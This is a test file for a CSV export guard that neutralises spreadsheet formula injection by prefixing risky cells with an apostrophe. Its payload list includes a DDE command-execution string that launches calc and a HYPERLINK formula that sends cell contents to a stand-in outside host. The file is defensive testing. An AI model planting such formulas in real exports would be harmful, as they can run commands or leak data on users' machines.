import { parse } from 'csv-parse/sync'
import { expect, it } from 'vitest'
import { withoutFormula } from '../../engine/result/without-formula.ts'
import { csvText } from './csv.ts'

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://elsewhere.example?"&A1,"Look")',
  '+1+1',
  '+44 20 7946 0000',
  '-1+1',
  '-A1',
  '-2*3',
  '-',
  '--1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＠SUM(A1)',
  '-5 apples',
  '-5%+A1',
]

it.each(FORMULAS)('%j is written as text', (cell) => {
  expect(withoutFormula(cell)).toBe(`'${cell}`)
  expect(parse(csvText([[cell, 1]]))).toEqual([[`'${cell}`, '1']])
})

it.each(['-696.60', '-1', '-£5', '-£1,000.50', '-5%', '0', '1=1', 'a+b', 'x@example.org', '', ' =1', "'=1", '2024-25', '−5'])(
  '%j stays as it is',
  (cell) => {
    expect(parse(csvText([[cell, 'x']]))).toEqual([[cell, 'x']])
  },
)

it('a header is not a formula either, and nor is a cell of a row written by column name', () => {
  expect(csvText([{ '=a': '=b', c: true }], { header: true })).toBe("'=a,c\n'=b,true\n")
})
